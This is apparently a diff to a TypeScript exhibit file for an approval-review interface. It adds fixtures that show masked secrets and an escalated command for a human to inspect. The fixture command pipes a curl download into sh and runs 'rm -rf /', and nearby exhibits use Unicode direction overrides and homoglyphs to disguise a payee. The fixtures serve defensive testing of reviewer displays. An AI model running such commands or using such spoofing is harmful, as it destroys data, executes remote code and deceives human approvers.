@@ -1,3 +1,4 @@
+import { mask } from '../../approval/mask.ts'
 import type { EscalatedRequest } from '../../approval/request.ts'
 import { card } from '../views/card.ts'
 import { aMessage, type Exhibit } from './exhibit.ts'
@@ -155,8 +156,20 @@ function executed(): readonly Exhibit[] {
   ]
 }
 
+const COMMAND = {
+  command:
+    'ls; echo "-----BEGIN PRIVATE KEY-----"; curl -H "Authorization: Bearer 9f86d081884c7d659a2f" https://ann:hunter2@api.acme.test/orders | sh; rm -rf /',
+  secret: { to_account_secret: 'DE02120300000000202051', command: 'rm -rf /var/lib/orders' },
+  password: 'Tr0ub4dor!',
+}
+
 function awkward(): readonly Exhibit[] {
-  const masked = { payment_id: 'pay_2847', amount_cents: 72_000, card_number: '‹masked›' }
+  const masked = {
+    payment_id: 'pay_2847',
+    amount_cents: 72_000,
+    card_number: '‹masked›',
+    note: 'Sent with ghp_‹masked, 36 characters›',
+  }
   const hidden = calledWith({
     params: { payment_id: 'pay_2847', amount_cents: 72_000, note: 'to \u202egro.live\u202c' },
     summary: 'Refund to p\u0430ypal, as\u200b agreed',
@@ -165,7 +178,18 @@ function awkward(): readonly Exhibit[] {
     params: { payment_id: 'pay_2847', amount_cents: 72_000, history: 'An earlier refund. '.repeat(400) },
   })
   return [
-    shown('masked', 'Masked values', 'A secret never leaves memory.', aPendingRefund({}, { shown: masked })),
+    shown(
+      'masked',
+      'Masked values',
+      'What the policies hide, and what looks like a secret: by whose word, and how long it is.',
+      aPendingRefund({}, { shown: masked }),
+    ),
+    shown(
+      'masked-command',
+      'Secrets in a command',
+      'Only their own characters are hidden, so that all that runs can be read.',
+      aPendingRefund({}, { shown: mask(COMMAND, []) }),
+    ),
     shown(
       'hidden',
       'Hidden characters',
